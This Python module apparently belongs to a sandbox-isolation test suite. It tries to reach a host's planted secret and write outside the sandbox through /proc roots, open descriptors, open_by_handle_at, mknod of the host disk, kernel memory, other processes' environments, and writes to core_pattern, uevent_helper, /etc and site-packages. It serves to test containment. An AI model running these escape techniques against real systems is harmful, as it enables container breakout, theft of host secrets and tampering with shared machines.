"""Attempts at the host's files: to read the planted secret, to write beside it, to see the system.

An attempt that reads returns the secret's text, which the host compares; one that writes makes the
file `facts["mark"]` + its own name, which the host looks for. Mounts are in `mounting.py`.
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import stat

from .driver import Facts, Refused, Skip, attempt, syscall
from .paths import can_write, create, pids, read, read_bytes, try_each

ALSO = ("mounting",)

AT_FDCWD = -100


# -- reading ---------------------------------------------------------------------------------------


@attempt
def read_by_its_path(facts: Facts) -> str:
    return read(facts["secret"])


@attempt
def read_by_dot_dot(facts: Facts) -> str:
    return read("../" * 40 + facts["secret"].lstrip("/"))


@attempt
def read_through_a_symlink(facts: Facts) -> str:
    link = f"link-{os.getpid()}"
    os.symlink(facts["secret"], link)
    return read(link)


@attempt
def read_through_a_hard_link(facts: Facts) -> str:
    link = facts["secret"] + f".{os.getpid()}"
    os.link(facts["secret"], link)
    text = read(link)
    os.unlink(link)
    return text


@attempt
def read_through_init_root(facts: Facts) -> str:
    return read(f"/proc/{facts['init']}/root{facts['secret']}")


@attempt
def read_through_any_process(facts: Facts) -> str:
    """The root and the folder of every process that can be seen."""
    places = [f"/proc/{n}/{way}" for n in pids() for way in ("root", "cwd" + "/.." * 20)]
    return try_each(places, facts["secret"], "mount namespace: every process has the same root")


@attempt
def read_through_thread_roots(facts: Facts) -> str:
    places = []
    for pid in pids():
        with contextlib.suppress(OSError):
            places += [f"/proc/{pid}/task/{t}/root" for t in os.listdir(f"/proc/{pid}/task")]
    return try_each(places, facts["secret"], "mount namespace: every thread has the same root")


@attempt
def read_through_open_descriptors(facts: Facts) -> str:
    """Every descriptor of every process: of a folder, go up from there; of a file, compare."""
    folder = os.open(".", os.O_RDONLY | os.O_DIRECTORY)  # at least this one is tried
    tried = 0
    for pid in pids():
        with contextlib.suppress(OSError):
            for name in os.listdir(f"/proc/{pid}/fd"):
                path = f"/proc/{pid}/fd/{name}"
                with contextlib.suppress(OSError):
                    if stat.S_ISDIR(os.stat(path).st_mode):
                        tried += 1
                        return read(path + "/.." * 40 + facts["secret"])
    os.close(folder)
    raise Refused(f"{tried} folders are open, none leads out", "no descriptor of the host inside")


@attempt
def read_inherited_files(facts: Facts) -> str:
    """A regular file that is open in any process and lies on none of the sandbox's mounts."""
    known = set()
    with open("/proc/self/mountinfo", encoding="utf-8") as file:
        for line in file:
            known.add(line.split()[2])
    mine = os.open(__file__, os.O_RDONLY)
    looked = 0
    for pid in pids():
        with contextlib.suppress(OSError):
            for name in os.listdir(f"/proc/{pid}/fd"):
                with contextlib.suppress(OSError):
                    info = os.stat(f"/proc/{pid}/fd/{name}")
                    where = os.readlink(f"/proc/{pid}/fd/{name}")
                    if not stat.S_ISREG(info.st_mode) or not where.startswith("/"):
                        continue
                    looked += 1
                    device = f"{os.major(info.st_dev)}:{os.minor(info.st_dev)}"
                    outside = facts["outside"]  # a folder that only the host has
                    if where.startswith(outside) or (
                        device not in known and "memfd" not in where and "deleted" not in where
                    ):
                        return f"process {pid} has {where} open"
    os.close(mine)
    raise Refused(
        f"{looked} files are open, all of the sandbox", "no descriptor of the host inside"
    )


@attempt
def read_by_file_handle(facts: Facts) -> str:
    """open_by_handle_at takes an inode's number and asks for no path."""
    size = 128
    handle = ctypes.create_string_buffer(size.to_bytes(4, "little"), 8 + size)
    mount_id = ctypes.c_int()
    path = facts["secret"] if os.path.exists(facts["secret"]) else "/etc/passwd"
    syscall(
        (303, 264),
        ctypes.c_long(AT_FDCWD),
        path.encode(),
        handle,
        ctypes.byref(mount_id),
        ctypes.c_long(0),
    )
    root = os.open(os.path.dirname(path), os.O_RDONLY)
    fd = syscall((304, 265), root, handle, os.O_RDONLY)
    return os.read(fd, 1000).decode()


@attempt
def read_the_hosts_disk(facts: Facts) -> str:
    """The block device of the file system that the secret lies on: found, or made by mknod."""
    device = os.makedev(*facts["device"])
    if facts["device"][0] == 0:
        raise Skip("the host's temporary folder lies on no block device")
    for name in os.listdir("/dev"):
        with contextlib.suppress(OSError):
            if os.stat(f"/dev/{name}").st_rdev == device:
                return f"read {len(read_bytes(f'/dev/{name}', 512))} bytes of /dev/{name}"
    path = f"disk-{os.getpid()}"
    try:
        os.mknod(path, stat.S_IFBLK | 0o600, device)
        return f"read {len(read_bytes(path, 512))} bytes of the host's disk"
    except PermissionError as error:
        if facts["canary"]:
            raise Skip("this machine lets nobody open a block device") from error
        raise
    finally:
        with contextlib.suppress(OSError):
            os.unlink(path)


@attempt
def read_disks_in_dev(facts: Facts) -> str:
    disks = []
    for folder, _, names in os.walk("/dev"):
        for name in names:
            path = os.path.join(folder, name)
            with contextlib.suppress(OSError):
                mode = os.stat(path).st_mode
                if stat.S_ISBLK(mode) or name in ("mem", "kmem", "port"):
                    os.close(os.open(path, os.O_RDONLY))
                    disks.append(path)
    if disks:
        return f"{disks[0]} opens"
    raise Refused("no disk in /dev opens", "a /dev of its own: no disks")


@attempt
def read_kernel_memory(facts: Facts) -> str:
    last = ""
    for path in ("/proc/kcore", "/dev/mem", "/dev/kmem"):
        try:
            if data := read_bytes(path, 64):
                return f"{path}: {len(data)} bytes"
        except OSError as error:
            last = f"{path}: {error.strerror}"
    if facts["canary"] and "No such file" in last:
        raise Skip("this machine shows no kernel memory")
    raise Refused(last, "masked, absent, or root's alone")


@attempt
def read_kernel_addresses(facts: Facts) -> str:
    with open("/proc/kallsyms", encoding="ascii") as file:
        line = file.readline()
    if int(line.split()[0], 16):
        return f"kallsyms: {line.split()[2]} has an address"
    raise Refused("kallsyms shows zeros", "no CAP_SYSLOG: addresses are zeros")


@attempt
def read_the_kernel_log(facts: Facts) -> str:
    size_of_log = 10
    return f"the log has {syscall((103, 116), size_of_log, None, 0)} bytes"


@attempt
def read_the_hosts_processes(facts: Facts) -> str:
    """The victim's command line and environment, which hold the secret."""
    for pid in pids():
        with contextlib.suppress(OSError):
            said = read_bytes(f"/proc/{pid}/environ", 10_000)
            said += read_bytes(f"/proc/{pid}/cmdline", 10_000)
            if facts["victim_mark"].encode() in said:
                return f"process {pid} of the host shows its environment"
    raise Refused(f"{len(pids())} processes are seen, none the host's", "pid namespace")


@attempt
def see_the_hosts_root(facts: Facts) -> str:
    """Whether the host's root file system itself is mounted here, in whatever place."""
    with open("/proc/self/mountinfo", encoding="utf-8") as file:
        for line in file:
            words = line.split()
            if words[2] == facts["host_root"] and words[3] == "/":
                return f"the host's root is mounted at {words[4]}"
    raise Refused("the host's root is no mount here", "mount namespace")


# -- writing ---------------------------------------------------------------------------------------


@attempt
def write_beside_the_secret(facts: Facts) -> str:
    path = facts["mark"] + "write_beside_the_secret"
    os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o600))
    return f"made {path}"


@attempt
def write_through_init_root(facts: Facts) -> str:
    path = facts["mark"] + "write_through_init_root"
    os.close(os.open(f"/proc/{facts['init']}/root{path}", os.O_CREAT | os.O_WRONLY, 0o600))
    return f"made {path}"


@attempt
def write_into_usr(facts: Facts) -> str:
    return create(f"/usr/lib/lis-attack-{os.getpid()}")


@attempt
def write_into_etc(facts: Facts) -> str:
    return create(f"/etc/lis-attack-{os.getpid()}")


@attempt
def write_into_the_root(facts: Facts) -> str:
    return create(f"/lis-attack-{os.getpid()}")


@attempt
def write_into_the_interpreter(facts: Facts) -> str:
    """A module that every later sandbox would import."""
    import json

    return create(f"{os.path.dirname(json.__file__)}/lis_attack_{os.getpid()}.py")


@attempt
def write_into_the_packages(facts: Facts) -> str:
    import ipykernel

    return create(f"{os.path.dirname(ipykernel.__file__)}/lis_attack_{os.getpid()}.py")


@attempt
def write_into_the_guest(facts: Facts) -> str:
    """Our own code, which runs in every sandbox."""
    for place in ("/opt/lis/guest", "/opt/lis-guest", facts["guest"]):
        if os.path.isdir(place):
            return create(f"{place}/lis_attack_{os.getpid()}.py")
    raise Refused("the guest's folder is not found", "not in the sandbox's mount namespace")


@attempt
def change_a_mode_in_usr(facts: Facts) -> str:
    path = os.path.realpath("/usr/bin/env")
    os.chmod(path, os.stat(path).st_mode)
    return f"chmod {path}"


@attempt
def open_devices_for_writing(facts: Facts) -> str:
    """/dev/kmsg writes into the host's log."""
    return can_write("/dev/kmsg")


@attempt
def write_sysctl(facts: Facts) -> str:
    return can_write("/proc/sys/kernel/core_pattern")


@attempt
def drop_the_hosts_caches(facts: Facts) -> str:
    return can_write("/proc/sys/vm/drop_caches")


@attempt
def write_sys(facts: Facts) -> str:
    """A setting of the machine in /sys."""
    for path in ("/sys/kernel/mm/transparent_hugepage/enabled", "/sys/kernel/profiling"):
        if os.path.exists(path):
            return can_write(path)
    return can_write("/sys/kernel/uevent_helper")


@attempt
def write_cgroup_limits(facts: Facts) -> str:
    """Its own limits, or any group's, in whatever cgroup file system can be seen."""
    last = "no cgroup file system is seen"
    for folder in facts["cgroups"]:
        for name in ("cgroup.procs", "memory.limit_in_bytes", "memory.max"):
            try:
                return can_write(f"{folder}/{name}")
            except OSError as error:
                last = f"{folder}/{name}: {error.strerror}"
    raise Refused(last, "the control groups are not in the sandbox, or read-only")
